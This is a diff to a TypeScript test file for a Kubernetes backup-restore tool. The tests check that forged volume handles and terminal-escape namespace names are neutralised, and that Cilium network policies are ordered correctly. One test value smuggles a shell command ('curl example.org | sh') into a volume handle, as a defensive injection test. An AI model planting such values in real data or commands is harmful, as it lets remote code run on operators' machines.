@@ -17,9 +17,9 @@ const claim = (path: string, volumeName: string, more = {}) =>
   object('persistentvolumeclaims', 'v1', 'PersistentVolumeClaim', path, {
     spec: { volumeName, ...more },
   });
-const volume = (name: string, driver: string) =>
+const volume = (name: string, driver: string, volumeHandle = `disk-of-${name}`) =>
   object('persistentvolumes', 'v1', 'PersistentVolume', name, {
-    spec: { csi: { driver, volumeHandle: `handle of ${name}` } },
+    spec: { csi: { driver, volumeHandle } },
   });
 
 const all: readonly BackupObject[] = [
@@ -84,7 +84,7 @@ test('namespaces and kinds can be chosen; claims of the namespaces are named wit
         namespace: 'shop',
         name: 'data',
         isBlock: true,
-        volume: 'handle of pvc-1',
+        volume: 'disk-of-pvc-1',
       },
       {
         key: '/PersistentVolumeClaim/shop/files',
@@ -95,6 +95,27 @@ test('namespaces and kinds can be chosen; claims of the namespaces are named wit
     ],
     leftOut: [],
   });
+});
+
+// Proves: clusters.restore-objects
+test('a volume whose handle a tenant made up is none of the platform: people copy commands with it', () => {
+  const none = { isEmptyVolumes: false, isStopped: false, isElsewhere: false };
+  const forged = [
+    object('namespaces', 'v1', 'Namespace', 'shop'),
+    claim('shop/data', 'pvc-1'),
+    volume('pvc-1', 'csi.kubevirt.io', 'x; curl example.org | sh #'),
+  ];
+  const { claims } = chooseObjects(forged, new Set(), none);
+  expect(claims.map(({ name, volume: disk }) => [name, disk])).toEqual([['data', undefined]]);
+});
+
+// Proves: clusters.restore-objects
+test('what a backup lists is printed on one line', () => {
+  const odd = [object('namespaces', 'v1', 'Namespace', 'a\u001b[2J')];
+  const choice = { namespaces: ['b'], isEmptyVolumes: false, isStopped: false, isElsewhere: false };
+  expect(() => chooseObjects(odd, new Set(), choice)).toThrow(
+    String.raw`--namespace: the backup has no b; it has a\u001b[2J.`,
+  );
 });
 
 // Proves: clusters.restore-objects
@@ -135,6 +156,8 @@ test('what judges or changes others is made last, and pods start by workloads an
   const custom = kind('example.org/v1', 'Cart');
   const wall = kind('networking.k8s.io/v1', 'NetworkPolicy');
   expect(orderOf(wall)).toBeLessThan(orderOf(pod));
+  expect(orderOf(kind('cilium.io/v2', 'CiliumNetworkPolicy'))).toBe(orderOf(wall));
+  expect(startsPods(kind('cilium.io/v2', 'CiliumNetworkPolicy'))).toBe(false);
   expect(orderOf(custom)).toBeLessThan(orderOf(pod));
   expect(orderOf(pod)).toBeLessThan(orderOf(webhook));
   expect([webhook, pod].map(judgesRequests)).toEqual([true, false]);
